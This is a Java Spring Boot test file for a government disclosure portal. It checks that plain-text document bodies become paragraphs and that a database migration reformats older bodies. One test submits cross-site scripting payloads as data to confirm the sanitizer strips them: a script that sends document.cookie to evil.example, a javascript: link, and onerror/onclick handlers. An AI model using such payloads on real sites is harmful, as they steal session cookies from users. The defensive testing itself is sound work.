package org.doorstep.disclosure;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import java.nio.charset.StandardCharsets;
import java.time.LocalDate;

import org.doorstep.organization.DemoCounty;
import org.doorstep.support.SignedInRequests;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.web.servlet.FilterRegistrationBean;
import org.springframework.core.io.ClassPathResource;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import org.springframework.test.web.servlet.setup.MockMvcBuilders;
import org.springframework.security.test.web.servlet.setup.SecurityMockMvcConfigurers;
import org.springframework.web.context.WebApplicationContext;

/**
 * Issue 13 item 4: a body typed into the console's plain textarea (no editor, no tags) is published as the paragraphs
 * it was typed in; hostile markup sent through the same form, past the edge filters, never reaches the portal.
 */
@SpringBootTest
class TypedBodyTest {

    static final String TOWN = DemoCounty.MEILIN_TOWN;

    @Autowired
    Disclosure disclosure;
    @Autowired
    JdbcClient jdbc;
    @Autowired
    WebApplicationContext context;

    MockMvc edge;
    Officer officer;
    Officer reviewer;

    @BeforeEach
    void setUp() {
        // The real edge: the request hygiene filter in front of the security chain, as a browser's request meets them.
        edge = MockMvcBuilders.webAppContextSetup(context)
                .addFilters(context.getBean("requestHygiene", FilterRegistrationBean.class).getFilter())
                .apply(SecurityMockMvcConfigurers.springSecurity()).build();
        officer = Officer.officer(TOWN);
        reviewer = Officer.reviewer(TOWN);
    }

    @Test
    void aTypedMultiParagraphBodyIsPublishedAsParagraphs() throws Exception {
        String typed = "各村（社区）：\r\n\r\n　　为做好春季森林防火工作，现将有关事项通知如下。\r\n一、严禁野外用火。\r\n"
                + "二、发现火情请拨打 12119 & 0791-1234567。\r\n\r\n\r\n梅林镇人民政府\r\n2026年3月2日";
        GovDocument d = publishedThroughTheForm("关于做好春季森林防火工作的通知", typed);

        String page = portal(d);
        assertThat(page).contains("<div class=\"document-body\"><p>各村（社区）：</p>"
                + "<p>　　为做好春季森林防火工作，现将有关事项通知如下。<br>一、严禁野外用火。<br>"
                + "二、发现火情请拨打 12119 &amp; 0791-1234567。</p>"
                + "<p>梅林镇人民政府<br>2026年3月2日</p></div>");
    }

    @Test
    void hostileMarkupInTheFormNeverReachesThePortal() throws Exception {
        String hostile = "<h2 onclick=\"steal()\">一、总体要求</h2><p style=\"display:none\">正文</p>"
                + "<script>document.location='https://evil.example/?'+document.cookie</script>"
                + "<a href=\"javascript:alert(1)\">点此查看</a><img src=x onerror=\"steal()\">"
                + "<ul><li>甲</li></ul><table><tr><th>项目</th></tr><tr><td>1</td></tr></table>";
        GovDocument d = publishedThroughTheForm("关于公开2026年惠民资金的通知", hostile);

        String page = portal(d);
        assertThat(page).contains("<h2>一、总体要求</h2><p>正文</p><a>点此查看</a><ul><li>甲</li></ul>", "<td>1</td>")
                .doesNotContain("steal()", "evil.example", "javascript:alert", "display:none", "src=\"x\"");

        // A control character in the body is refused at the edge, in Chinese, and nothing is stored.
        MockHttpServletResponse nul = SignedInRequests.call(edge, form("含控制字符的通知", "正文\u0000"), officer);
        assertThat(nul.getStatus()).isEqualTo(400);
        assertThat(nul.getContentAsString()).contains("提交的内容");
    }

    /** A body typed before this change (one escaped run with its newlines) is split by the migration as well. */
    @Test
    void anEarlierTypedBodyIsSplitByTheMigrationAndMarkupIsLeftAlone() throws Exception {
        GovDocument typed = publishedThroughTheForm("关于调整办公时间的通知", "<p>占位</p>");
        GovDocument html = publishedThroughTheForm("关于调整窗口时间的通知", "<p>第一段</p>\n\n<p>第二段</p>");
        jdbc.sql("update disclosure_document set body = ? where id = ?")
                .params("各单位：\r\n\r\n自3月起上午 8:30 上班 &amp; 下午 &lt;5:30&gt; 下班。\r\n特此通知。\n", typed.id()).update();
        String before = jdbc.sql("select body from disclosure_document where id = ?").param(html.id())
                .query(String.class).single();

        String migration = new ClassPathResource(
                "db/migration/disclosure/V202612061220__disclosure_plain_text_bodies.sql")
                .getContentAsString(StandardCharsets.UTF_8);
        for (String statement : migration.replaceAll("(?m)^--.*$", "").split(";")) {
            if (!statement.isBlank()) {
                jdbc.sql(statement).update();
            }
        }
        assertThat(jdbc.sql("select body from disclosure_document where id = ?").param(typed.id()).query(String.class)
                .single()).isEqualTo("<p>各单位：</p><p>自3月起上午 8:30 上班 &amp; 下午 &lt;5:30&gt; 下班。<br>特此通知。</p>");
        assertThat(jdbc.sql("select body from disclosure_document where id = ?").param(html.id()).query(String.class)
                .single()).isEqualTo(before);
    }

    private GovDocument publishedThroughTheForm(String title, String body) throws Exception {
        String unique = title + System.nanoTime();
        MockHttpServletResponse created = SignedInRequests.call(edge, form(unique, body), officer);
        assertThat(created.getStatus()).as(created.getContentAsString()).isEqualTo(302);
        long id = Long.parseLong(created.getRedirectedUrl().replaceAll(".*/", ""));
        disclosure.submit(id, officer);
        return disclosure.approve(id, reviewer);
    }

    private MockHttpServletRequestBuilder form(String title, String body) {
        long node = disclosure.catalogue(TOWN).stream().filter(n -> n.name().equals("法定主动公开内容")).findFirst()
                .orElseThrow().id();
        return post("/console/disclosure/documents").param("title", title)
                .param("publisherCode", disclosure.publishers(TOWN).keySet().iterator().next())
                .param("writtenOn", LocalDate.of(2026, 3, 2).toString()).param("topic", "综合政务")
                .param("genre", "通知").param("keywords", "通知").param("nodeIds", String.valueOf(node))
                .param("body", body).with(csrf());
    }

    private String portal(GovDocument d) throws Exception {
        return SignedInRequests.secured(context).perform(get(d.path())).andReturn().getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
    }
}
